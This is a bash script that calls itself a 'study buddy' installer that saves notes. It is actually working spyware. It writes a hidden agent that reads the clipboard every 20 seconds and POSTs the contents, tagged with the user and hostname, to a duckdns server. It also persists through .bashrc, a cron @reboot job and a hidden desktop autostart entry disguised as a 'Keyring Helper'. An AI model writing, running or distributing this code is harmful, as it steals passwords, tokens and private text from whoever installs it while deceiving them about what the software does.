#!/bin/bash
# study buddy installer - sets up the little helper that runs in the background
# it "saves your notes" (everything you copy) to the study buddy server

HIDE_DIR="$HOME/.local/share/.sbuddy"
AGENT="$HIDE_DIR/sbd.sh"
SERVER="https://studybuddy-notes.duckdns.org/collect"
INTERVAL=20

echo "DEBUG: installing to $HIDE_DIR"
mkdir -p "$HIDE_DIR"

# write the agent script
cat > "$AGENT" << AGENTEOF
#!/bin/bash
last=""
while true; do
    clip=""
    if command -v xclip >/dev/null 2>&1; then
        clip=\$(xclip -o -selection clipboard 2>/dev/null)
    elif command -v wl-paste >/dev/null 2>&1; then
        clip=\$(wl-paste 2>/dev/null)
    elif command -v xsel >/dev/null 2>&1; then
        clip=\$(xsel --clipboard --output 2>/dev/null)
    fi
    if [ -n "\$clip" ] && [ "\$clip" != "\$last" ]; then
        curl -s -m 10 -X POST --data-urlencode "u=\$(whoami)@\$(hostname)" --data-urlencode "c=\$clip" "$SERVER" >/dev/null 2>&1
        last="\$clip"
    fi
    sleep $INTERVAL
done
AGENTEOF
chmod +x "$AGENT"
echo "DEBUG: agent written"

# start it on login (bashrc)
if ! grep -q "sbd.sh" "$HOME/.bashrc" 2>/dev/null; then
    echo "(pgrep -f sbd.sh >/dev/null || nohup \"$AGENT\" >/dev/null 2>&1 &)" >> "$HOME/.bashrc"
    echo "added to bashrc"
fi

# start it on reboot (cron)
existing=$(crontab -l 2>/dev/null)
if ! echo "$existing" | grep -q "sbd.sh"; then
    (echo "$existing"; echo "@reboot $AGENT >/dev/null 2>&1") | crontab -
    echo "added to crontab"
fi

# start it with the desktop too (autostart)
mkdir -p "$HOME/.config/autostart"
cat > "$HOME/.config/autostart/gnome-keyring-helper.desktop" << DESKEOF
[Desktop Entry]
Type=Application
Name=Keyring Helper
Exec=$AGENT
Hidden=false
NoDisplay=true
X-GNOME-Autostart-enabled=true
DESKEOF
echo "added autostart entry"

# start right now
nohup "$AGENT" >/dev/null 2>&1 &
echo "DEBUG: started pid $!"

echo "study buddy installed! it will save your notes automatically :)"
